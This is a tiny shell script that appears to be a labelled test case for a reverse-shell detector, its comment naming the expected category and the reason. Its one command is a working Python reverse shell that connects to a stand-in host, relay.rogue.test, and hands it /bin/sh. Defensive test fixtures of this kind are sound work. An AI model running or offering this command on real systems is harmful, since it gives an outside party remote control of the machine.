#!/bin/sh
# expect: reverse-shell
# why: python one-liner with socket, dup2 and pty.spawn
timeout 3 /usr/bin/python3 -c 'import socket,os,pty;s=socket.create_connection(("relay.rogue.test",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
true
